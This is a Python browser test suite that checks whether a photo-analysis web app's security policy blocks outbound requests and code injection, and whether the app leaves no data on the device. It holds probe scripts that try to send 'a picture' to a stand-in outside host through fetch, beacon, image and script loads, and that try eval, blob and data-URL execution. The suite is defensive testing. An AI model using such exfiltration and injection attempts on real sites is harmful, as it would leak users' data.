"""Nothing leaves and no text becomes code: neither in the page nor in its worker, whatever runs in them."""

import json

import pytest
from PIL import Image

from building import manifest, policy
from serving import server
from tests.browser import PATIENCE_MS, Host
from tests.drawn_hand import draw_hand, drawn_photo
from tests.e2e.engine_workers import workers_of

# A place that is not ours, and the ways to get something there.
ELSEWHERE = "https://example.org/taken"
TRY = """async (address) => {
    const refused = [];
    self.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
    await fetch(address, { method: "POST", body: "a picture" }).catch(() => {});
    if (typeof WorkerGlobalScope === "undefined") {
        const image = new Image();
        await new Promise((done) => { image.onerror = done; image.src = address; });
        navigator.sendBeacon(address, "a picture");
        const script = document.createElement("script");
        await new Promise((done) => { script.onerror = done; script.src = address; document.body.append(script); });
    }
    await new Promise((done) => setTimeout(done, 200));
    return refused.map((directive) => directive.replace("-elem", ""));
}"""

# The ways to run a text as code, or to read one from an address that holds it: which of them the browser let through.
# On a timer, since what the developer's tools evaluate by themselves may do more than the page.
RUN_TEXT = """() => new Promise((report) => setTimeout(async () => {
    const CODE = "self.ran = true";
    const blob = () => URL.createObjectURL(new Blob([CODE], { type: "text/javascript" }));
    const data = () => "data:text/javascript," + encodeURIComponent(CODE);
    const started = (address, type) => new Promise((done, failed) => {
        const worker = new Worker(address, { type });
        worker.onerror = failed;
        setTimeout(done, 1000);
    });
    const ways = {
        "eval": () => eval("1"),
        "indirect eval": () => (0, eval)("1"),
        "function": () => new Function("1")(),
        "async function": () => new (async () => {}).constructor("1")(),
        "timer": () => new Promise((done, failed) => {
            setTimeout(CODE, 0);
            setTimeout(() => (self.ran ? done() : failed()), 100);
        }),
        "module in a blob": () => import(blob()),
        "module in a data address": () => import(data()),
        "worker in a blob": () => started(blob(), "classic"),
        "module worker in a blob": () => started(blob(), "module"),
        "worker in a data address": () => started(data(), "classic"),
        "blob": () => fetch(blob()),
        "data address": () => fetch(data()),
    };
    if (typeof WorkerGlobalScope === "undefined") {
        const element = (fill) => new Promise((done, failed) => {
            const script = document.createElement("script");
            fill(script);
            document.body.append(script);
            setTimeout(() => (self.ran ? done() : failed()), 100);
        });
        ways["script in the page"] = () => element((script) => { script.textContent = CODE; });
        ways["script in a blob"] = () => element((script) => { script.src = blob(); });
        ways["script in a data address"] = () => element((script) => { script.src = data(); });
        ways["handler"] = () => {
            document.body.insertAdjacentHTML("beforeend", `<button id="handler" onclick="${CODE}"></button>`);
            document.getElementById("handler").click();
            if (!self.ran) throw new Error();
        };
        ways["style"] = () => {
            document.body.insertAdjacentHTML("beforeend", '<p id="styled" style="color: rgb(1, 2, 3)"></p>');
            if (getComputedStyle(document.getElementById("styled")).color !== "rgb(1, 2, 3)") throw new Error();
        };
    }
    const went = [];
    for (const [name, way] of Object.entries(ways)) {
        delete self.ran;
        try {
            await way();
            went.push(name);
        } catch {}
    }
    report([Object.keys(ways).length, went]);
}, 0))"""


def expect_refusals(visit):
    """The browser says on the console what it refuses, and these were refused for a test."""
    visit.expect_errors("Content Security", "security policy")


@pytest.fixture(params=[1, 2])
def arrived(visit, request):
    """A visit whose engine is ready, the first or the second: then everything comes from the service worker."""
    visit.open()
    visit.wait_for_engine()
    if request.param == 2:
        visit.wait_for_offline_ready()
        visit.page.reload()
        visit.wait_for_engine()
    return visit


def test_another_origin_is_refused_by_the_policy(arrived):
    page = arrived.page
    of_page = page.evaluate(TRY, ELSEWHERE)
    assert set(of_page) == {"connect-src", "img-src", "script-src"}
    # Fetch and beacon.
    assert of_page.count("connect-src") >= 2
    for worker in workers_of(page):
        assert set(worker.evaluate(TRY, ELSEWHERE)) == {"connect-src"}
    # The requests that the browser announces never went out.
    expect_refusals(arrived)
    arrived.expect_errors(ELSEWHERE)
    arrived.requests[:] = [url for url in arrived.requests if url != ELSEWHERE]
    arrived.may_send_to = (ELSEWHERE,)


def test_no_text_becomes_code(arrived):
    page = arrived.page
    assert page.evaluate(RUN_TEXT) == [17, []]
    for worker in workers_of(page):
        assert worker.evaluate(RUN_TEXT) == [12, []]
    expect_refusals(arrived)


def test_every_answer_carries_the_policy(host, visit):
    answers = []

    def keep(response):
        answers.append(response)

    visit.page.on("response", keep)
    visit.open()
    visit.wait_for_engine()
    ours = [answer for answer in answers if answer.url.startswith(host.address)]
    assert any(answer.url.endswith("/worker.js") for answer in ours)
    for answer in ours:
        assert answer.headers["content-security-policy"] == policy.CONTENT_SECURITY_POLICY, answer.url
        assert answer.headers["referrer-policy"] == "no-referrer"
        assert "camera=(self)" in answer.headers["permissions-policy"]


class BareHandler(server.Handler):
    """A host that sends none of our headers, such as many static ones."""

    def send_header(self, keyword, value):
        if keyword not in policy.HEADERS:
            super().send_header(keyword, value)


class BareServer(server.PageServer):
    def finish_request(self, request, client_address):
        BareHandler(request, client_address, self)


def test_a_host_without_headers_is_isolated_and_guarded_by_the_service_worker(built_dist, new_visit):
    host = Host(built_dist, BareServer)
    try:
        visit = new_visit(host.address)
        visit.open()
        # The page reloads itself once the service worker is there.
        ready = "() => crossOriginIsolated && document.body.dataset.engine === 'ready'"
        visit.page.wait_for_function(ready, timeout=PATIENCE_MS)
        assert visit.page.evaluate(RUN_TEXT) == [17, []]
        for worker in workers_of(visit.page):
            assert worker.evaluate(RUN_TEXT) == [12, []]
        expect_refusals(visit)
        visit.upload(drawn_photo())
        assert len(visit.reading()["nails"]) == 3
    finally:
        host.stop()


# Everything that a page can leave on a device.
LEFT = """async () => {
    const result = (asked) => new Promise((done) => { asked.onsuccess = () => done(asked.result); });
    let entries = 0;
    // PyScript makes two databases, and keeps nothing in them.
    for (const { name } of await indexedDB.databases()) {
        const database = await result(indexedDB.open(name));
        for (const store of database.objectStoreNames)
            entries += await result(database.transaction(store).objectStore(store).count());
        database.close();
    }
    const kept = [];
    for (const name of await caches.keys())
        for (const request of await (await caches.open(name)).keys()) kept.push(new URL(request.url).pathname.slice(1));
    return {
        local: Object.entries(localStorage),
        session: Object.keys(sessionStorage),
        entries,
        cookies: document.cookie,
        files: await navigator.storage.getDirectory().then(async (folder) => {
            const names = [];
            for await (const name of folder.keys()) names.push(name);
            return names;
        }),
        kept: kept.sort(),
    };
}"""


def test_a_photo_leaves_nothing_behind(host, visit, built_dist, tmp_path):
    exif = Image.Exif()
    exif[0x010F] = "Maker of the phone"
    exif.get_ifd(0x8825)[1] = "N"
    photo = tmp_path / "hand.jpg"
    draw_hand().picture.save(photo, exif=exif)
    page = visit.page
    page.add_init_script(
        """const make = URL.createObjectURL;
        URL.createObjectURL = (content) => (window.madeForPhoto = make.call(URL, content));"""
    )
    visit.open()
    visit.wait_for_offline_ready()
    visit.upload(photo)
    visit.reading()
    address = page.evaluate("window.madeForPhoto")
    readable = """(address) => new Promise((say) => {
        const image = new Image();
        image.onload = () => say(true);
        image.onerror = () => say(false);
        image.src = address;
    })"""
    assert page.evaluate(readable, address)
    page.click("[data-testid=close-result]")
    assert not page.evaluate(readable, address)
    # The browser says on the console that there is nothing there.
    visit.expect_errors("ERR_FILE_NOT_FOUND")
    left = page.evaluate(LEFT)
    # Python's memory, which the first start has left, is from before the photo.
    memory = f"vendor/memory/{json.loads((built_dist / 'vendor/memory/memory.json').read_text())['id']}"
    assert set(left["kept"]) - {memory} == set(manifest.read(built_dist).files)
    assert (left["entries"], left["cookies"], left["files"], left["session"]) == (0, "", [], [])
    assert "Maker" not in str(left["local"]) and {name for name, _ in left["local"]} <= {"hemolens-settings /"}
    # Nor on the screen, in the elements that showed it.
    assert page.evaluate("[...document.querySelectorAll('canvas')].every((each) => !each.checkVisibility())")
    assert page.locator("#nails canvas").count() == 0
